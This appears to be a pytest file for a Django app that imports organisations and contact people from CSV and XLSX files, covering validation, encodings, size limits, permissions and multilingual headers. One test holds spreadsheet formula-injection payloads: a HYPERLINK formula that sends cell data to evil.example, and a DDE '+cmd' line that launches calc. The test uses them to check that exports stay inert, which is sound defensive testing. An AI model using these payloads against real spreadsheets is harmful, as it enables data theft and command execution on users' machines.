"""Import of organisations and contact people from CSV and XLSX: the rejected rows are reported by line, column
and reason in the reader's language, a rejected row writes nothing, and hostile files are refused whole."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from councils.models import Partner
from stakeholders.imports import MAX_ROWS
from stakeholders.models import Contact
from tests import factories as f

pytestmark = pytest.mark.django_db

HEADER = "organisation,category,sector,region,website,contact_name,position,email,phone\n"


def _upload(client, council, name, content, language="ru"):
    with translation.override(language):
        url = reverse("stakeholders_ws:import", args=[council.slug])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def _rejected(response):
    return [(row.line, row.column, row.reason) for row in response.context["result"].rejected]


def test_good_rows_are_imported_and_each_bad_row_is_reported_and_writes_nothing(personas):
    client = personas.client_for(personas.secretary)
    csv_text = HEADER + (
        "ТОО «Казцинк»,extractive,горнодобыча,ВКО,https://kazzinc.kz,Асель Нурова,PR,asel@kazzinc.kz,+77010000001\n"
        "ТОО «Казцинк»,,,,,Берик Оспанов,инженер,,\n"  # a second contact of the same organisation
        "Редакция «Время»,СМИ,,,,Дана Ким,редактор,not-an-address,\n"  # bad e-mail: nothing of it, not even the org
        ",ngo,,,,,,,\n"  # no organisation
        "ОО «Зелёные»,партия,,,,,,,\n"  # unknown category
        "ОО «Без имени»,ngo,,,,,,x@y.kz,\n"  # contact details without a name
        "Акимат,state,,,ftp://akimat.kz,,,,\n"  # not a web address
        "\n"
        "КазНУ,Academia,наука,Алматы,,,,,\n"  # category by its English name, any case
    )

    response = _upload(client, personas.council, "list.csv", csv_text.encode())

    assert response.status_code == 200
    assert _rejected(response) == [
        (4, "email", "Это не адрес электронной почты."),
        (5, "organisation", "Не указано название организации."),
        (6, "category", "Неизвестная категория «партия»."),
        (7, "contact_name", "Контактные данные указаны без имени человека."),
        (8, "website", "Это не веб-адрес (http:// или https://)."),
    ]
    assert set(Partner.objects.values_list("name_ru", flat=True)) == {"ТОО «Казцинк»", "КазНУ"}
    assert Partner.objects.get(name_ru="КазНУ").stakeholder_profile.category == "academia"
    assert Contact.objects.filter(partner__name_ru="ТОО «Казцинк»").count() == 2
    text = response.content.decode()
    assert 'id="rejected-rows"' in text and "Неизвестная категория" in text

    # The same file again: nothing is doubled, the known rows are counted as such.
    again = _upload(client, personas.council, "list.csv", csv_text.encode())
    assert again.context["result"].organisations_created == 0
    assert again.context["result"].unchanged == 3
    assert Contact.objects.count() == 2


def test_the_report_is_in_the_readers_language(personas):
    client = personas.client_for(personas.secretary)
    content = (HEADER + "X,unknown,,,,,,,\n").encode()

    english = _upload(client, personas.council, "list.csv", content, language="en")
    kazakh = _upload(client, personas.council, "list.csv", content, language="kk")

    assert _rejected(english) == [(2, "category", "Unknown category «unknown».")]
    assert _rejected(kazakh) == [(2, "category", "Белгісіз санат «unknown».")]


def test_an_xlsx_is_read_from_its_first_sheet(personas):
    book = Workbook()
    sheet = book.active
    sheet.append(["Organisation", "Category", "Contact_name", "Email"])
    sheet.append(["Фонд «Сорос-Казахстан»", "ngo", "Айдар Ахметов", "a@soros.kz"])
    sheet.append(["Фонд «Без почты»", "ngo", "Гульнара", "нет"])
    buffer = io.BytesIO()
    book.save(buffer)

    response = _upload(personas.client_for(personas.secretary), personas.council, "list.xlsx", buffer.getvalue())

    assert _rejected(response) == [(3, "email", "Это не адрес электронной почты.")]
    assert Contact.objects.get().full_name == "Айдар Ахметов"


def test_a_windows_1251_csv_is_read_and_a_binary_or_utf16_file_is_refused_whole(personas):
    client = personas.client_for(personas.secretary)

    cp1251 = _upload(client, personas.council, "list.csv", (HEADER + "Акимат города,state,,,,,,,\n").encode("cp1251"))
    utf16 = _upload(client, personas.council, "list.csv", (HEADER + "Другое,ngo,,,,,,,\n").encode("utf-16"))
    binary = _upload(client, personas.council, "list.csv", bytes(range(256)) * 10)
    fake_xlsx = _upload(client, personas.council, "list.xlsx", b"PK\x03\x04 not really a workbook")

    assert cp1251.status_code == 200 and Partner.objects.get().name_ru == "Акимат города"
    for response in (utf16, binary, fake_xlsx):
        assert response.status_code == 400
        assert response.context["form"].errors["file"]
    assert Partner.objects.count() == 1


def test_a_huge_file_or_too_many_rows_are_refused_whole(personas):
    client = personas.client_for(personas.secretary)
    huge = (HEADER + "А" * 100 + ",ngo,,,,,,,\n") * 30_000  # over 5 MB
    many = HEADER + "".join(f"Организация {n},ngo,,,,,,,\n" for n in range(MAX_ROWS + 5))

    too_big = _upload(client, personas.council, "list.csv", huge.encode())
    too_long = _upload(client, personas.council, "list.csv", many.encode())

    assert too_big.status_code == too_long.status_code == 400
    assert "5 МБ" in too_big.content.decode()
    assert str(MAX_ROWS) in too_long.content.decode().replace("\xa0", "").replace(" ", "")
    assert Partner.objects.count() == 0


def test_a_formula_in_an_imported_cell_stays_inert_in_the_exports(personas):
    client = personas.client_for(personas.secretary)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = formula.replace('"', '""')
    content = HEADER + f'"{quoted}",ngo,,,,"+cmd|\' /C calc\'!A0",,,\n'

    _upload(client, personas.council, "list.csv", content.encode())
    organisations = client.get(
        reverse("stakeholders_ws:organisations", args=[personas.council.slug]), {"format": "csv"}
    )
    contacts = client.get(reverse("stakeholders_ws:contacts", args=[personas.council.slug]), {"format": "csv"})
    xlsx = client.get(reverse("stakeholders_ws:organisations", args=[personas.council.slug]), {"format": "xlsx"})

    assert Partner.objects.get().name_ru == formula  # kept as typed
    org_csv = b"".join(organisations.streaming_content).decode()
    contact_csv = b"".join(contacts.streaming_content).decode()
    assert "'=HYPERLINK" in org_csv and "\n=HYPERLINK" not in org_csv and ',"=HYPERLINK' not in org_csv
    assert "'+cmd" in contact_csv
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == formula and cell.data_type == "s"  # a text cell, never a formula


def test_a_member_cannot_import_and_another_council_cannot_reach_the_page(personas):
    content = (HEADER + "X,ngo,,,,,,,\n").encode()
    member = _upload(personas.client_for(personas.member), personas.council, "list.csv", content)
    other = _upload(personas.client_for(personas.other_secretary), personas.council, "list.csv", content)

    assert member.status_code == 403 and other.status_code == 404
    assert not Partner.objects.exists()
    assert f.PartnerFactory  # the factories stay importable for the other tests


def test_the_header_may_name_the_columns_in_russian_kazakh_or_english(personas):
    client = personas.client_for(personas.secretary)
    russian = (
        "Организация;Категория;Сфера;Контактное лицо;Должность;Эл. почта;Телефон\n"
        "ОО «Зелёный город»;НПО;экология;Айгуль Сейтова;директор;a@green.kz;+77010000002\n"
    )
    kazakh = "Ұйым,Санат,Өңір,Байланыс тұлғасы\n«Алматы» телеарнасы,media,Алматы,Ержан Сапаров\n"
    english = "Organization,Category,Contact person,E-mail\nKIMEP University,academia,Dana Lee,dana@kimep.kz\n"

    for name, text in (("ru.csv", russian), ("kk.csv", kazakh), ("en.csv", english)):
        response = _upload(client, personas.council, name, text.encode())
        assert response.status_code == 200 and _rejected(response) == [], name
        assert response.context["result"].organisations_created == 1, name

    green = Contact.objects.get(full_name="Айгуль Сейтова")
    assert (green.position, green.email, green.phone) == ("директор", "a@green.kz", "+77010000002")
    assert green.partner.stakeholder_profile.category == "ngo"
    assert green.partner.stakeholder_profile.sector == "экология"
    tv = Partner.objects.get(name_ru="«Алматы» телеарнасы").stakeholder_profile
    assert (tv.category, tv.region) == ("media", "Алматы")
    assert Contact.objects.get(full_name="Dana Lee").partner.stakeholder_profile.category == "academia"
